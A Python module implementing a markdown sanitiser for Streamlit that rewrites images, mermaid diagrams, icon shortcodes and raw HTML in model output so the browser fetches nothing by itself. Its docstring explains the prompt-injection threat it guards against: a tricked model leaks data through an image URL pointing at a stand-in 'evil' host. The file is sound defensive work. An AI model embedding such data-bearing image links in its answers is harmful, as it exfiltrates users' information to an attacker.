"""Safe rendering of untrusted markdown (model answers, knowledge-base snippets).

Streamlit renders markdown in the user's browser, so anything in a model's answer that
makes the browser fetch a URL is an exfiltration channel: ``![](http://evil/x.png?d=…)``
leaks whatever the model was tricked into putting in the URL. ``safe_markdown`` rewrites
every construct that fetches on its own, and leaves the rest (bold, lists, code, tables,
links, citations like ``[1]``) as it was. A link stays a link: following it is the user's
choice.

What it rewrites, measured against Streamlit 1.67's renderer (react-markdown + remark-gfm,
remark-directive, remark-math, its own plugins):

- images, every form (inline ``![a](u)``, reference ``![a][r]``, collapsed ``![a][]``,
  shortcut ``![r]``, inside a link): the ``!`` that opens one is removed or escaped, so
  an image with a label becomes the link ``[image: a](u)`` and anything else keeps its
  text (``Deploy safely![1]`` still reads ``Deploy safely![1]``);
- ```` ```mermaid ```` fences: Streamlit draws them, and a diagram's image nodes are
  fetched while it is laid out; they are shown as code;
- ``:material/name:`` (and ``:material_name:``) icon shortcodes, shown as text;
- raw HTML: Streamlit already shows it as text unless ``unsafe_allow_html`` is passed;
  tag openings outside code are escaped too, so that stays true whatever the caller passes.

Character references that spell letters, digits, ``_``, ``:`` or ``/`` are decoded first,
so ``&#109;ermaid`` or ``&#58;material&#95;home:`` cannot hide from the rules. The result
is safe for *any* input string, so a stream can be shown by sanitising the accumulated text
after every chunk (a ``!`` that ends one chunk and the ``[`` that starts the next are one
``![`` by then). Pure Python, one pass per rule, linear in the text.

Not code-aware on purpose for the rules that matter: a wrong guess about where a code span
ends would let an image through, so an image written inside code is rewritten too
(``\\![a](u)`` there). Only the HTML rule, which is defence in depth, skips code.
"""

from __future__ import annotations

import html
import re
from bisect import bisect_right

__all__ = ["safe_markdown"]

# -- 1. character references that could spell a rule's keyword --------------------------------
_REF = re.compile(r"&(?:#[0-9]{1,7}|#[xX][0-9A-Fa-f]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")
_ESCAPED = frozenset("_:/")  # structural characters: decoded as a backslash escape


def _decode_ref(m: re.Match[str]) -> str:
    char = html.unescape(m.group(0))
    if len(char) == 1 and char.isascii():
        if char.isalnum():
            return char
        if char in _ESCAPED:
            return "\\" + char
    return m.group(0)


# -- 2. mermaid fences: the info string's first word names the language -----------------------
_FENCE = re.compile(r"(`{3,}|~{3,})([^\n]*)")


def _fence(m: re.Match[str]) -> str:
    run, info = m.group(1), m.group(2)
    words = info.split(maxsplit=1)
    if words and "mermaid" in words[0].lower():
        return f"{run}text {info}"
    return m.group(0)


# -- 3. Material icon shortcodes (Streamlit turns ":material/" into ":material_" first) --------
_MATERIAL = re.compile(r":material\\?[_/]")

# -- 4. images and HTML, in one left-to-right scan that pairs backslash escapes ----------------
_TOKEN = re.compile(
    r"""
      \\[\s\S]                                  # an escape pair: left as it is
    | (?P<bang>!+)\[                            # "![" (after any run of "!")
    | <(?=[A-Za-z][A-Za-z0-9-]*(?:[\s/>]|\Z)    # an HTML tag, comment, declaration or
         |/[A-Za-z]|[!?])                       #   processing instruction starts here
    """,
    re.VERBOSE,
)
_LABEL_LIMIT = 1000  # how far to look for the "]" that closes an image's alt text


def _label_end(text: str, start: int) -> int:
    """Index of the "]" closing the bracket opened just before ``start``, or -1."""
    depth = 1
    i = start
    end = min(len(text), start + _LABEL_LIMIT)
    while i < end:
        c = text[i]
        if c == "\\":
            i += 2
            continue
        if c == "[":
            depth += 1
        elif c == "]":
            depth -= 1
            if depth == 0:
                return i
        elif c == "\n" and text.startswith("\n", i + 1):
            return -1  # a blank line ends the paragraph
        i += 1
    return -1


# Code spans and fenced blocks, for the HTML rule only (a wrong guess just leaves raw HTML,
# which Streamlit shows as text anyway).
_FENCE_LINE = re.compile(r"^[ \t>]*(?:(?:[-*+]|\d{1,9}[.)])[ \t]+)*(`{3,}|~{3,})(.*)$")
_BACKTICKS = re.compile(r"`+")
_LINE = re.compile(r"[^\n]*\n|[^\n]+$")


def _code_ranges(text: str) -> list[tuple[int, int]]:
    ranges: list[tuple[int, int]] = []
    pos = 0
    fence: tuple[str, int, int] | None = None  # (char, length, start offset)
    plain_start = 0
    for line in _LINE.findall(text):
        m = _FENCE_LINE.match(line.rstrip("\n"))
        if fence is None:
            if m and not (m.group(1)[0] == "`" and "`" in m.group(2)):
                _inline_code(text, plain_start, pos, ranges)
                fence = (m.group(1)[0], len(m.group(1)), pos)
        elif (
            m
            and m.group(1)[0] == fence[0]
            and len(m.group(1)) >= fence[1]
            and not m.group(2).strip()
        ):
            ranges.append((fence[2], pos + len(line)))
            fence = None
            plain_start = pos + len(line)
        pos += len(line)
    if fence is not None:
        ranges.append((fence[2], len(text)))
    else:
        _inline_code(text, plain_start, len(text), ranges)
    return ranges


def _inline_code(text: str, start: int, end: int, out: list[tuple[int, int]]) -> None:
    runs = list(_BACKTICKS.finditer(text, start, end))
    i = 0
    while i < len(runs):
        opener = runs[i]
        closer = next(
            (j for j in range(i + 1, len(runs)) if len(runs[j].group()) == len(opener.group())),
            None,
        )
        if closer is None:
            i += 1
            continue
        out.append((opener.start(), runs[closer].end()))
        i = closer + 1


def _neutralise(text: str) -> str:
    code: list[tuple[int, int]] | None = None

    def in_code(i: int) -> bool:
        nonlocal code
        if code is None:
            code = _code_ranges(text)
        k = bisect_right(code, (i, len(text) + 1)) - 1
        return k >= 0 and code[k][0] <= i < code[k][1]

    def repl(m: re.Match[str]) -> str:
        token = m.group(0)
        if token[0] == "\\":
            return token
        bang = m.group("bang")
        if bang is None:  # "<"
            return token if in_code(m.start()) else "\\<"
        # Every "!" of the run is escaped, so none can open an image; an image with its
        # destination or reference right after the label reads as a link instead.
        rest = "\\!" * (len(bang) - 1)
        close = _label_end(text, m.end())
        if close >= 0 and text.startswith(("(", "["), close + 1):
            return rest + ("[image" if not text[m.end() : close].strip() else "[image: ")
        return rest + "\\!["

    return _TOKEN.sub(repl, text)


def safe_markdown(text: str) -> str:
    """Markdown that shows ``text`` without the browser fetching anything on its own.

    Safe for any string (each prefix of a stream included), idempotent, and it leaves
    ordinary markdown unchanged. See the module docstring for what it rewrites.
    """
    if not text:
        return ""
    if "\r" in text:
        text = re.sub(r"\r\n?", "\n", text)  # CommonMark's line endings, as one
    if "&" in text:
        text = _REF.sub(_decode_ref, text)
    if "`" in text or "~" in text:
        text = _FENCE.sub(_fence, text)
    if ":material" in text:
        text = _MATERIAL.sub(":material&#47;", text)
    if "!" in text or "<" in text:
        text = _neutralise(text)
    return text
